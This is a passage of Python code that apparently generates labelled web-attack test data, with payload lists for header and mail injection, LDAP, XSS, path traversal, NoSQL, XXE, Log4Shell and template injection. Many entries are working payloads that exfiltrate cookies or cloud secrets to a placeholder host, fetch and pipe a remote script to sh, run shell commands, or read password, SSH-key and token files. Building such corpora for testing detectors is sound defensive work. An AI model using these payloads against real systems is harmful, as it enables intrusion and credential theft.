    A("Name\r\nReply-To: phish@§A"),
    A(
        "hello\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<p>You won!</p>\r\n--zz--"
    ),
    H("hello\n.\r\nMAIL FROM:<admin@§T>\r\n"),
    H("bob@corpmail.net\r\nbCc: carol@§A"),
    A("bob@corpmail.net\nTo: all-staff@§T"),
    RAW("a@b.co%250d%250aBcc:x@§A"),
    A("attacker@§A%0d%0aBcc: victim@corpmail.net", only=HDR_ONLY),
    A('"a\\" -X/var/www/html/uploads/m.php -OQueueDirectory=/tmp x"@§A', only=HDR_ONLY | {"json", "form", "query"}),
    A("ops@§T -C/etc/passwd -X/tmp/leak.txt", only=HDR_ONLY | {"form", "json"}),
    A("x@§A -f attacker -be '${run{/bin/sh -c \"id>/tmp/o\"}}'"),
    A("Feedback\r\nX-Mailer: custom\r\nBcc: harvest@§A"),
    A(
        "Invoice #2211\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0bWw+PGEgaHJlZj0iaHR0cHM6Ly9ldmlsIj5wYXk8L2E+PC9odG1sPg=="
    ),
    A("user@§T%0ACc:%20leak@§A", only=HDR_ONLY),
    A("marketing@§T\r\nTo: victim@corpmail.net\r\nSubject: Action required"),
    A("Newsletter\nContent-Type: text/plain\n\nClick https://§A/unsub to keep receiving mail"),
    A("INBOX.Sent\r\nA004 FETCH 1:* (BODY[HEADER])"),
    A("test@§T\r\nSender: billing@§T"),
    A("ticket 4412\r\nDisposition-Notification-To: track@§A"),
    A("joe@corpmail.net,\r\n attacker@§A"),
    A("RCPT TO:<a@§A>\r\nRCPT TO:<b@§A>"),
    A("x\r\nReturn-Path: <bounce@§A>"),
    A("bob@corpmail.net\u000d\u000aBcc: x@§A"),
    A("sales@§T\n\nInjected body: please call +1-555-0100"),
    A("carol@§T\r\nList-Unsubscribe: <https://§A/u>"),
    A("\r\nBcc: x1@§A"),
    A("A001 LOGIN admin pass\r\nA002 SELECT INBOX", only={"json", "form", "query", "multipart", "xml"}),
    H("x@y.co\r\nbcc:\t victim@corpmail.net"),
    H("victim@corpmail.net\nCC:ops@§A"),
    H(
        'user@§T\r\nContent-Type: text/html; charset="utf-7"\r\n\r\n+ADw-a href=+ACI-https://§A+ACI-+AD4-login+ADw-/a+AD4-'
    ),
]

# ---- LDAP injection -------------------------------------------------------
LDAPI = [
    A("*"),
    A("*)(uid=*))(|(uid=*"),
    A("admin)(&)"),
    A("admin)(|(password=*))"),
    A("*)(|(objectClass=*)"),
    A("*))(|(cn=*"),
    A("admin*"),
    A("a*)(|(mail=*@§T"),
    A("admin)(!(&(1=0"),
    A("*)(uid=*))\x00"),
    A("admin))(|(uid=*"),
    A("admin)(userPassword=a*"),
    A("*)(sAMAccountName=adm*"),
    A("*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local"),
    A("x)(objectClass=user)(description=*pass*"),
    A("*)(|(cn=*)(cn=*"),
    A("admin,ou=admins,dc=corp,dc=local"),
    A("*)(&(objectClass=*)"),
    H("*)(UiD=*))(|(uId=*"),
    A("*)(&"),
    A("*(|(objectclass=*))"),
    A("jdoe)(|(telephoneNumber=*)"),
    A("admin)(objectClass=*))(&(objectClass=void"),
    A("*)(givenName=*"),
    A("svc_*)(userAccountControl:1.2.840.113556.1.4.803:=2"),
    A("*)(pwdLastSet=0"),
    A("*)(|(homeDirectory=*)"),
    A("x*)(employeeType=contractor"),
    A("a)(|(objectClass=person)(objectClass=inetOrgPerson)"),
    A("*)(mail=*))%00"),
    A("*))(|(objectClass=*"),
    A("j*)(department=Finance"),
    A("*)(!(cn=nobody)"),
    A("*)(userPassword={SSHA}*"),
    A("uid=admin)(|(uid=*"),
    A("admin)(cn=*)(|(cn=*"),
    A("*)(description=*"),
    A("guest))(|(memberOf=cn=admins,ou=groups,dc=corp,dc=local"),
    H("aDmIn)(|(ObjectClass=*))"),
    A("*)(|(sn=a*)(sn=b*)"),
    A("*)(unicodePwd=*"),
    A("ou=*,dc=corp,dc=local"),
    A("*)(ms-Mcs-AdmPwd=*"),
    A("cn=*)(objectClass=*"),
    H("*)(uid>=a"),
    H("*)(cn~=admin"),
    H("*)(uid:caseExactMatch:=admin"),
    H("*)(0.9.2342.19200300.100.1.1=*"),
    H("admin)(|(uid<=z)(uid>=a)"),
]

# ---- XSS --------------------------------------------------------------------
XSS = [
    A("<script>alert(1)</script>"),
    A("<img src=x onerror=alert(document.cookie)>"),
    A("<svg onload=alert(1)>"),
    A("<svg/onload=confirm(document.domain)>"),
    A("\"><script>fetch('https://§A/c?'+document.cookie)</script>"),
    A("'><img src=x onerror=prompt(1)>"),
    A("<body onload=alert(1)>"),
    A('<iframe src="javascript:alert(1)">'),
    H('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    A("<details open ontoggle=alert(1)>"),
    A("<input autofocus onfocus=alert(1)>"),
    A("<video><source onerror=alert(1)>"),
    A("<audio src=x onerror=alert(1)>"),
    A("<marquee onstart=alert(1)>"),
    A('<a href="javascript:alert(1)">click</a>'),
    H('<a href="jav&#x09;ascript:alert(1)">x</a>'),
    H('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    A("javascript:alert(document.domain)"),
    H("JaVaScRiPt:alert(1)"),
    H("java\nscript:alert(1)"),
    A("data:text/html;base64," + b64("<script>alert(1)</script>")),
    H("<ScRiPt>alert(1)</sCrIpT>"),
    H("<scr<script>ipt>alert(1)</scr</script>ipt>"),
    H("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    H("<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    H('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    A('"-alert(1)-"'),
    A("';alert(String.fromCharCode(88,83,83))//"),
    A("</script><script>alert(1)</script>"),
    A("{{constructor.constructor('alert(1)')()}}"),
    A('<object data="data:text/html,<script>alert(1)</script>">'),
    A('<form action="javascript:alert(1)"><button>x</button></form>'),
    A("<button formaction=javascript:alert(1)>x"),
    A("<x onclick=alert(1)>click me</x>"),
    H("<img src=x onerror=alert`1`>"),
    H("<svg><script>alert&#40;1&#41;</script>"),
    H("<img src=\"x\" onerror=\"window['al'+'ert'](1)\">"),
    H("<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    H("<svg onload=setTimeout('ale'+'rt(1)')>"),
    A('<base href="https://§A/">'),
    A("<img src=x:x onerror=alert(1)//"),
    A("<svg/onload=alert(1)//"),
    A("<iframe onload=alert(1)>"),
    A("<img src=1 onerror=import('//§A/x.js')>"),
    A('" autofocus onfocus="alert(1)'),
    A("' onmouseover='alert(1)"),
    RAW("%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    RAW("%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    H('<a href="javas&Tab;cript:alert(1)">x</a>'),
    A('<svg><a xlink:href="javascript:alert(1)"><text x="10" y="20">x</text></a></svg>'),
    A(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
        mp=("content", "logo.svg", "image/svg+xml"),
    ),
    A("[click](javascript:alert(1))"),
    A(
        "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></math>"
    ),
    H("<img src=x onerror=\\u0061lert(1)>"),
    A("Mozilla/5.0 <script src=//§A/k.js></script>", only=HDR_ONLY),
]

# ---- path traversal / local file inclusion --------------------------------
PT = [
    A("../../../../etc/passwd"),
    A(r"..\..\..\windows\win.ini"),
    A("../../../../../../etc/shadow"),
    A("/etc/passwd"),
    H("....//....//....//etc/passwd"),
    H("..././..././..././etc/passwd"),
    RAW("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    RAW("..%c0%af..%c0%af..%c0%afetc/passwd"),
    RAW("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    RAW("..%u2215..%u2215..%u2215windows%u2215win.ini"),
    RAW("%u002e%u002e%u2216%u002e%u002e%u2216boot.ini"),
    A("..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"),
    A("..;/..;/WEB-INF/web.xml"),
    A("/..;/manager/html"),
    A("../../../../proc/self/environ"),
    A("../../../proc/self/cmdline"),
    A("../../.env"),
    A("../../../../var/log/nginx/access.log"),
    A("../config/database.yml"),
    A(r"..\..\..\inetpub\wwwroot\web.config"),
    A(r"C:\Windows\System32\drivers\etc\hosts"),
    A("/var/www/html/../../../etc/passwd"),
    A("uploads/../../../../etc/passwd"),
    A("../../../../etc/passwd\x00.jpg"),
    A("../../../etc/passwd\x00.png"),
    H(".%2e/.%2e/.%2e/etc/passwd"),
    A("/./././../../../etc/passwd"),
    A("../../../../../../../../../../../../etc/hosts"),
    A("../../../root/.ssh/id_rsa"),
    A("../../../../home/ubuntu/.aws/credentials"),
    H(r"....\\....\\....\\windows\\win.ini"),
    RAW("..%255c..%255c..%255cwindows%255cwin.ini"),
    A("../../../../var/www/html/shell.php", mp=("filename", "file", "application/x-php")),
    A(r"..\..\..\Program Files\Acme\plugins\evil.dll", mp=("filename", "plugin", "application/octet-stream")),
    A("../../WEB-INF/classes/application.properties"),
    A("../../../../usr/local/tomcat/conf/tomcat-users.xml"),
    A("/proc/self/fd/3"),
    H("．．／．．／．．／etc／passwd"),
    A("../../../../../etc/./passwd"),
    A("../../../app/config/parameters.yml"),
    A("..%2f..%2f..%2fetc%2fpasswd"),
    A("../../../../opt/app/.git/config"),
    A("file/../../../../../etc/group"),
    A("../../../../etc/passwd", only=HDR_ONLY | {"cookie"}),
    A("/static/../../../../etc/passwd", only=HDR_ONLY),
    A("../../../../../../windows/win.ini", only=HDR_ONLY),
    A("...//...//...//etc/passwd"),
]

# ---- NoSQL injection (MongoDB, CouchDB) ------------------------------------
NOSQL = [
    A({"$ne": None}),
    A({"$ne": ""}),
    A({"$gt": ""}),
    A({"$regex": "^a"}),
    A({"$regex": ".*", "$options": "si"}),
    A({"$in": ["admin", "root", "administrator"]}),
    A({"$nin": [""]}),
    A({"$exists": True}),
    A({"$where": "sleep(5000) || true"}),
    A({"$or": [{"username": "admin"}, {"username": {"$ne": "x"}}]}),
    A({"username": {"$regex": "^adm"}, "password": {"$ne": None}}),
    A({"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}),
    A({"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}),
    A({"$where": "function(){return this.password.match(/^a/)}"}),
    A({"$jsonSchema": {}}),
    A([{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]),
    A({"selector": {"_id": {"$gt": None}}}),
    A({"$where": "this.role == 'admin'"}),
    A({"role": {"$ne": "user"}}),
    A({"$regex": "^.{0,}$"}),
    A({"price": {"$lt": 0}, "$comment": "x"}),
    A({"$not": {"$type": 1}}),
    A("' || '1'=='1"),
    A("'; return true; var x='"),
    A("1; sleep(5000)"),
    A("'; while(true){}; var a='"),
    A("admin' && this.password.match(/^a.*$/)//"),
    A("0;return true"),
    A('"; return db.getCollectionNames(); var x="'),
    H("a'||this.constructor.constructor('return process')().exit()||'"),
    A("username[$ne]", only={"query_key"}, qkval="x"),
    A("password[$ne]", only={"query_key"}, qkval=""),
    A("user[$regex]", only={"query_key"}, qkval="^adm"),
    A("login[$gt]", only={"query_key"}, qkval=""),
    A("filter[role][$ne]", only={"query_key"}, qkval="user"),
    A("email[$exists]", only={"query_key"}, qkval="true"),
    A("id[$in][]", only={"query_key"}, qkval="1"),
    A("$where", only={"json_key"}, jkval="sleep(4000) || true"),
    A("$ne", only={"json_key"}, jkval=None),
    A("$gt", only={"json_key"}, jkval=""),
    A("$regex", only={"json_key"}, jkval="^.*$"),
    A("$expr", only={"json_key"}, jkval={"$eq": [1, 1]}),
    A("$or", only={"json_key"}, jkval=[{"a": {"$exists": False}}, {"a": {"$exists": True}}]),
    A('j:{"$ne":null}', only={"cookie"}),
    A('j:{"$gt":""}', only={"cookie"}),
    A('{"$ne": null}', only=HDR_ONLY),
    A('{"$where":"sleep(3000)"}', only=HDR_ONLY),
    H('{"\\u0024ne":null}', only=HDR_ONLY | {"cookie"}),
    A("this.password.length>0", only={"xml", "form", "multipart", "path", "query", "header"}),
    H({"$nor": [{"username": "nobody"}]}),
    H({"$and": [{"password": {"$gt": ""}}, {"username": {"$regex": "adm"}}]}),
    H({"$not": {"$eq": "wrong-password"}}),
]


# ---- XXE ------------------------------------------------------------------
def _x(root, inner="&x;", sys_id="file:///etc/passwd", decl=True, name="x"):
    d = '<?xml version="1.0" encoding="UTF-8"?>\n' if decl else ""
    return '%s<!DOCTYPE %s [<!ENTITY %s SYSTEM "%s">]>\n<%s>%s</%s>' % (
        d,
        root,
        name,
        sys_id,
        root,
        inner.replace("&x;", "&%s;" % name),
        root,
    )


XXE_UTF7 = (
    '<?xml version="1.0" encoding="UTF-7"?>'
    + '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'.encode("utf-7").decode("ascii")
)
XXE = [
    A(_x("order", "<id>1</id><note>&x;</note>"), doc=True),
    A(_x("user", "<name>&x;</name>", "file:///c:/windows/win.ini"), doc=True),
    A(
        _x("lookup", "<q>&x;</q>", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", name="meta"),
        doc=True,
    ),
    A('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % ext SYSTEM "http://§A/ev.dtd"> %ext;]><d>1</d>', doc=True),
    H(
        '<?xml version="1.0"?>\n<!DOCTYPE m [\n<!ENTITY % local SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n<!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "file:///etc/passwd"><!ENTITY &#x25; e "<!ENTITY &#x26;#x25; err SYSTEM &#x27;file:///nope/&#x25;f;&#x27;>">&#x25;e;&#x25;err;\'>\n%local;\n]>\n<m/>',
        doc=True,
    ),
    A(
        _x(
            "invoice",
            "<total>&x;</total>",
            "php://filter/convert.base64-encode/resource=/var/www/html/config.php",
            name="cfg",
        ),
        doc=True,
    ),
    A(_x("cmd", "&x;", "expect://id", name="e"), doc=True),
    A(
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        doc=True,
    ),
    A('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>', no={"xml"}),
    A(
        '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="0" y="20">&h;</text></svg>',
        doc=True,
        mp=("content", "badge.svg", "image/svg+xml"),
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY e SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&e;</id></getUser></soap:Body></soap:Envelope>',
        doc=True,
    ),
    A('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://§A/x.dtd"><r/>', doc=True),
    A(
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]><l>&g;</l>',
        doc=True,
    ),
    A(_x("data", "&x;", "jar:http://§A/x.zip!/a.txt", name="j"), doc=True),
    A(_x("config", "<v>&x;</v>", "netdoc:/etc/passwd", name="n"), doc=True),
    H(XXE_UTF7, doc=True, novalidate=True),
    A('<?xml version="1.0"?><!DOCTYPE p PUBLIC "-//ACME//DTD Profile//EN" "http://§A/p.dtd"><p>1</p>', doc=True),
    A("<?xml version='1.0'?><!DOCTYPE q [<!ENTITY y SYSTEM 'file:///etc/group'>]><q>&y;</q>", doc=True),
    A(
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://§IP:8000/oob.dtd">%remote;%init;%trick;]><rss version="2.0"><channel><title>x</title></channel></rss>',
        doc=True,
    ),
    A(_x("product", "<sku>&x;</sku><qty>1</qty>", "file:///proc/self/environ"), doc=True),
    A(_x("ticket", "<subject>&x;</subject>", "file:///home/app/.ssh/id_rsa", decl=False, name="k"), doc=True),
    A(_x("feed", "<entry>&x;</entry>", "http://127.0.0.1:8080/admin/", name="int"), doc=True),
    A('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://§A/a.dtd">%a;]><x/>', doc=True),
    A(
        '<?xml version="1.0"?><!DOCTYPE Response [<!ENTITY ent SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&ent;</saml:Issuer></samlp:Response>',
        doc=True,
    ),
    A(_x("sitemap", "<url><loc>&x;</loc></url>", "file:///var/www/html/wp-config.php", name="wp"), doc=True),
    A(_x("import", "<row>&x;</row>", "ftp://§A:2121/probe", name="f"), doc=True),
    A(
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY win SYSTEM "file:///C:/inetpub/wwwroot/web.config">]><w>&win;</w>',
        doc=True,
    ),
    A(_x("message", "<body>&x;</body>", "gopher://127.0.0.1:25/xHELO%20x", name="g"), doc=True),
    A('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', doc=True),
    A('<!DOCTYPE r [<!ENTITY % d SYSTEM "http://§A/d.dtd">%d;]><r>&exfil;</r>', doc=True, novalidate=True),
    A(
        '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY c SYSTEM "file:///etc/shadow">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&c;</name></Placemark></kml>',
        doc=True,
    ),
    A('<?xml version="1.0"?><!DOCTYPE x [ <!ENTITY  xx  SYSTEM  "file:///etc/issue" > ]><x>&xx;</x>', doc=True),
    A(_x("token", "&x;", "file:///var/run/secrets/kubernetes.io/serviceaccount/token", name="sa"), doc=True),
    A(
        _x("host", "<name>&x;</name>", "http://169.254.169.254/computeMetadata/v1/instance/hostname", name="gcp"),
        doc=True,
    ),
    A(
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist [<!ENTITY p SYSTEM "file:///etc/passwd">]><plist version="1.0"><dict><key>name</key><string>&p;</string></dict></plist>',
        doc=True,
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY t SYSTEM "file:///home/app/.bash_history">]><gpx version="1.1" creator="x"><trk><name>&t;</name></trk></gpx>',
        doc=True,
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE env:Envelope [<!ENTITY s SYSTEM "file:///opt/app/config/application.yml">]><env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><q>&s;</q></env:Body></env:Envelope>',
        doc=True,
    ),
    H(_x("data", "&x;", "file:/etc/passwd"), doc=True),
    H(_x("entry", "&x;", "file:///etc/%70asswd", name="pw"), doc=True),
    H(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "data://text/plain;base64,'
        + b64('<!ENTITY x SYSTEM "file:///etc/passwd">')
        + '">%d;]><r>&x;</r>',
        doc=True,
        novalidate=True,
    ),
    H(
        '<?xml version="1.0"?>\n<!DOCTYPE\n  r\n  [\n  <!ENTITY\n    x\n    SYSTEM\n    "file:///etc/passwd"\n  >\n  ]\n>\n<r>&x;</r>',
        doc=True,
    ),
    H(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y "&x;">]><r>&y;</r>',
        doc=True,
    ),
    H('<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="file:///etc/hosts" parse="text"/></r>', doc=True),
]

# ---- Log4Shell --------------------------------------------------------------
LOG4 = [
    A("${jndi:ldap://§A:1389/a}"),
    A("${jndi:rmi://§A/x}"),
    A("${jndi:dns://§A/x}"),
    A("${jndi:ldaps://§A/o}"),
    A("${jndi:iiop://§A/x}"),
    A("${jndi:corba://§A/obj}"),
    H("${${lower:j}ndi:${lower:l}dap://§A/a}"),
    H("${${upper:j}ndi:ldap://§A/u}"),
    H("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://§A/x}"),
    H("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//§A/x}"),
    H("${j${k8s:k5:-ND}i:ldap://§A/k}"),
    H("${${sys:foo:-j}ndi:ldap://§A/s}"),
    H("${jndi:${lower:l}${lower:d}a${lower:p}://§A/x}"),
    H("${${lower:${lower:jndi}}:ldap://§A/n}"),
    A("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.§A/a}"),
    A("${jndi:dns://${hostName}.§A}"),
    A("${jndi:ldap://${sys:java.version}.§A/x}"),
    A("${jndi:ldap://§IP:1389/Basic/Command/Base64/%s}" % b64("curl http://x.mal-cdn.top/l.sh|sh")),
    H("${jndi:ldap://127.0.0.1#§A:1389/a}"),
    H("${${::-${::-$${::-j}}}}"),
    RAW("%2524%257Bjndi:ldap://§A/d%257D"),
    H("${JnDi:ldap://§A/c}"),
    A("${jndi:ldap://${spring:spring.datasource.password}.§A/x}"),
    A("${jndi:ldap://§A/${date:MM-dd-yyyy}}"),
    H("${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://§A/z}"),
    H("${j${::-n}d${::-i}:rmi://§A/r}"),
    A("${jndi:ldap://§A/${env:USER}}"),
    A("${jndi:rmi://§IP:1099/jdk8}"),
    H("${jn${lower:d}i:l${lower:d}ap://§A/q}"),
    A("${jndi:ldap://§A/${ctx:loginId}}"),
    H("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://§A/d}"),
    A("${jndi:nis://§A/n}"),
    A("${jndi:nds://§A/n}"),
    A("${jndi:ldap://${main:0}.§A/m}"),
    H("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//§A/b}"),
    A("${jndi:ldap://§A:389/o=tomcat}"),
    A("${jndi:ldap://${java:os}.§A/os}"),
    A("${jndi:dns://§IP/${hostName}}"),
    H("${${upper:${lower:j}}ndi:${upper:l}dap://§A/w}"),
    A("${jndi:ldap://${bundle:application:spring.datasource.url}.§A/b}"),
    A("x ${jndi:ldap://§A/inline} y"),
    A("${jndi:ldap://${web:rootDir}.§A/w}"),
    A("Mozilla/5.0 ${jndi:ldap://§A/ua}", only=HDR_ONLY),
    H("${jndi:${lower:r}mi://§A/r2}"),
]

# ---- server-side template injection ---------------------------------------
SSTI = [
    A("{{7*7}}"),
    A("${7*7}"),
    A("#{7*7}"),
    A("<%= 7*7 %>"),
    A("{{7*'7'}}"),
    A("@(7*7)"),
    A("*{7*7}"),
    A("[[${7*7}]]"),
    A("{{config.items()}}"),
    A("{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    A("{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    A("{{lipsum.__globals__['os'].popen('whoami').read()}}"),
    A("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    A("{{''.__class__.__mro__[1].__subclasses__()}}"),
    H(
        r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')()}}"
    ),
    A(
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"
    ),
    A("{{ namespace.__init__.__globals__.os.popen('id').read() }}"),
    A("{{joiner.__init__.__globals__.os.popen('cat /etc/passwd').read()}}"),
    A("{{get_flashed_messages.__globals__['current_app'].config}}"),
    A("{{url_for.__globals__.os.environ}}"),
    H("{{()|attr('__cla'~'ss__')|attr('__ba'~'se__')|attr('__subcla'~'sses__')()}}"),
    A('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'),
    A("{{['id']|filter('system')}}"),
    A("{{['cat /etc/passwd']|map('passthru')|join}}"),
    A("{{app.request.server.all|join(',')}}"),
    A("{{['id','']|sort('system')}}"),
    A("{{['id']|map('system')|join}}"),
    A('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    A('${"freemarker.template.utility.Execute"?new()("id")}'),
    A(
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"
    ),
    A(
        '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'
    ),
    A('#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))'),
    A('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'),
    A("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"),
    A("*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    A('<%= system("id") %>'),
    A("<%= `id` %>"),
    A("<%= File.open('/etc/passwd').read %>"),
    A("<%= IO.popen('id').readlines() %>"),
    A("#{`id`}"),
    A("{system('id')}"),
    A("{php}echo `id`;{/php}"),
    A("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    A("{$smarty.version}"),
    A("{if system('id')}{/if}"),
    A('${self.module.cache.util.os.system("id")}'),
    A("<% import os; x=os.popen('id').read() %>${x}"),
    A('{% import os %}{{ os.popen("id").read() }}'),
    A("{{settings.SECRET_KEY}}"),
    A("{% debug %}"),
    A("{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.password}}{% endfor %}"),
    A(
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"
    ),
    A("- var x = global.process.mainModule.require('child_process').execSync('id')"),
    A("{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    A("<%= process.mainModule.require('child_process').execSync('id') %>"),
    A("<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    A("{{= it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}"),
    A('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")'),
    H("{%- set x = cycler.__init__.__globals__ -%}{{ x.os.popen('id').read() }}"),
    H('{{lipsum|attr("__globals__")|attr("get")("os")|attr("popen")("id")|attr("read")()}}'),
    H("{%print(lipsum.__globals__.os.popen('id').read())%}"),
    A("Hi {{cycler.__init__.__globals__.os.popen('curl §A/$(id -u)').read()}}"),
    H(
        r"{{lipsum|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('os')|attr('popen')('id')|attr('read')()}}"
    ),
    H("{{ cycler['__init__']['__globals__']['os']['popen']('id')['read']() }}"),
    H("{{['id']|filter('sys'~'tem')}}"),
    H("{% set c = 'ca'~'t /etc/passwd' %}{{[c]|map('system')|join}}"),
    H('${("freemarker.template.utility.Exe"+"cute")?new()("id")}'),
    H("<%= Kernel.send('sys'+'tem', 'id') %>"),
    H("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    H("{%with a=request.application.__globals__.__builtins__.__import__('os')%}{{a.popen('id').read()}}{%endwith%}"),
]

ATTACKS = [
    ("code_injection", CODE),
    ("php_injection", PHPI),
    ("java_injection", JAVA),
    ("sqli", SQLI),
    ("rfi", RFI),
    ("ssrf", SSRF),
    ("cmdi", CMDI),
    ("ssti", SSTI),
    ("crlf", CRLF),
    ("mail_injection", MAIL),
    ("ldapi", LDAPI),
    ("xss", XSS),
    ("path_traversal", PT),
    ("nosqli", NOSQL),
    ("xxe", XXE),
    ("log4shell", LOG4),
]

# ---------------------------------------------------------------------------
# realistic contexts per attack category
# ---------------------------------------------------------------------------


def C(path, field, q=None, b=None, **kw):
    d = {"path": path, "field": field, "q": q or {}, "b": b or {}}
    d.update(kw)
    return d


def soap(op, ns):
    return (
        '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
        '<soap:Body><%s xmlns="urn:%s">{others}{el}</%s></soap:Body></soap:Envelope>' % (op, ns, op)
    )


TXT_FILES = [
    ("attachment", "notes.txt", "text/plain", "Meeting notes for Q4 planning.\r\nAction items below."),
    ("file", "data.csv", "text/csv", "sku,qty\r\nBK-1001,2\r\nBK-1002,5"),
    ("document", "brief.md", "text/markdown", "# Brief\r\n\r\nSee attached."),
]

CTX = {
    "sqli": dict(
        real=[
            C("/api/v1/products", "sort", q={"category": "outdoor", "page": "2"}, b={"category": "outdoor"}),
            C("/api/v2/orders", "status", q={"limit": "50", "offset": "0"}, b={"customer_id": "cus_8812"}),
            C("/api/v1/users/search", "email", q={"active": "true"}, b={"active": "true"}),
            C(
                "/auth/login",
                "username",
